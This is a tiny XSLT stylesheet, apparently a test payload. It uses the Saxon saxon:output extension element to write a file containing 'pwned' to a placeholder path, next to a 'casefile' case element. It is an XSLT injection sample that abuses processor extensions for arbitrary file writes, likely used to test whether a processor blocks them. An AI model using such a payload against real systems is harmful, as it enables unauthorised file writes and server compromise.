<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
    xmlns:saxon="http://icl.com/saxon" extension-element-prefixes="saxon">
  <xsl:template match="/">
    <saxon:output href="OUTFILE" method="text">pwned</saxon:output>
    <case format="casefile/1" id="x"/>
  </xsl:template>
</xsl:stylesheet>
